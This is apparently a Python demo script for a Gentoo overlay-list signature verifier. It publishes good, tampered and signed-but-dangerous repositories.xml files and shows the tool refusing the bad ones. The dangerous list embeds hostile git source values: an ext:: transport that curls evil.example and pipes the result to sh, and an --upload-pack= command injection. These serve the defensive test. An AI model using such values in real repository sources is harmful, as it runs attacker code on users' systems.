"""Demo scenes for the overlay list: a signed repositories.xml, a tampered one, a signed but dangerous
one, and the postsync.d hook keeping the verified copy when upstream turns bad.

Self-contained: the scene makes its own infrastructure key and pins it in ``gentoo-infra`` by hand
(``add-seed --purpose overlay-list``, which adds it to ``[purposes] overlay-list`` in the scene's own copy of
the demo config, + import-key), so add-seed says what the verification then does; the lists come from the
demo's loopback server.
"""

from __future__ import annotations

from gkeys_portage.demo.scene import DemoWorld, Step

_REPO = """  <repo quality="{quality}" status="{status}">
    <name>{name}</name>
    <description lang="en">{description}</description>
    <homepage>https://example.org/{name}</homepage>
    <owner type="{owner}">
      <email>{name}@example.org</email>
    </owner>
    <source type="git">{source}</source>
  </repo>
"""


def demo_list(*repos: tuple[str, str]) -> bytes:
    """A small repositories.xml with (name, source) repositories."""
    body = "".join(_REPO.format(name=name, source=source, quality="experimental", status="unofficial",
                                owner="person", description=f"The {name} overlay")
                   for name, source in repos)
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE repositories SYSTEM "https://www.gentoo.org/dtd/repositories.dtd">\n'
            f'<repositories xmlns="" version="1.0">\n{body}</repositories>\n').encode()


GOOD = demo_list(("guru", "https://github.com/gentoo/guru.git"),
                 ("science", "git@github.com:gentoo/sci.git"),
                 ("steam-overlay", "https://github.com/anyc/steam-overlay.git"))
DANGEROUS = demo_list(("guru", "https://github.com/gentoo/guru.git"),
                      ("helpful", "ext::sh -c curl% -s% https://evil.example/x|sh"),
                      ("handy", "--upload-pack=touch /tmp/pwned"))
#: The scene's config: the overlay list is verified with gentoo-infra, whose mirror key already has the purpose
#: (Gentoo's default, gentoo/snapshot, names no seed of the demo); ``add-seed --purpose`` adds the infra key.
OVERLAY_CONFIG = "[purposes]\noverlay-list = gentoo-infra/mirror\n[overlays]\ncategory = gentoo-infra\n"


def steps(world: DemoWorld) -> list[Step]:
    """This topic's demo steps."""
    keys, server, work = world.keys, world.server, world.workdir
    infra = keys.create("infra", name="Gentoo Infrastructure (demo)")
    (work / "infra.asc").write_bytes(keys.public("infra"))

    def publish(path: str, data: bytes, signed: bytes | None = None) -> str:
        url = server.publish(path, data)
        server.publish(path + ".asc", keys.sign_bytes("infra", data if signed is None else signed, work))
        return url

    good_url = publish("overlays/repositories.xml", GOOD)
    tampered = GOOD.replace(b"https://github.com/anyc/steam-overlay.git", b"https://evil.example/steam.git")
    tampered_url = publish("tampered/repositories.xml", tampered, signed=GOOD)
    dangerous_url = publish("dangerous/repositories.xml", DANGEROUS)
    verified = world.state / "overlays" / "repositories.xml"
    config = work / "gkeys-overlays-demo.conf"
    hook_config = work / "gkeys-overlays.conf"

    def write_config() -> None:
        config.write_text(world.config.read_text() + OVERLAY_CONFIG)

    def write_hook_config() -> None:
        hook_config.write_text(config.read_text() + f"url = {server.url}/upstream/repositories.xml\n"
                                                    f"output = {verified}\n")
        publish("upstream/repositories.xml", tampered, signed=GOOD)  # upstream turned bad since the last sync

    def overlays(*argv: str) -> list[str]:
        return ["-c", str(config), "verify-overlays", *argv]

    return [  # pinned with its purpose: gentoo-infra has purposes (mirror), and a key without one verifies nothing
        Step("pin the infrastructure key for the overlay list (--purpose adds it to [purposes] overlay-list)",
             ["-c", str(config), "add-seed", "-C", "gentoo-infra", "-n", "infra", "-N", "Gentoo Infrastructure (demo)",
              "-K", infra.fingerprint, "--purpose", "overlay-list"], prepare=write_config),
        Step("import it from a file: accepted because the fingerprint matches",
             ["-c", str(config), "import-key", "-C", "gentoo-infra", "-n", "infra", "-F", str(work / "infra.asc")]),
        Step("verify the signed overlay list with that key and install it for eselect-repository / layman",
             overlays(good_url, "-o", str(verified))),
        Step("REFUSED: a source URL was changed after the list was signed",
             overlays(tampered_url, "-o", str(verified)), expect=1),
        Step("REFUSED: validly signed, but sources would run commands (ext::, --upload-pack=)",
             overlays(dangerous_url, "-o", str(verified)), expect=1),
        Step("REFUSED by the postsync.d hook (it runs exactly this): upstream tampered, the verified copy stays",
             ["-c", str(hook_config), "verify-overlays", "--install"], expect=1, prepare=write_hook_config),
    ]
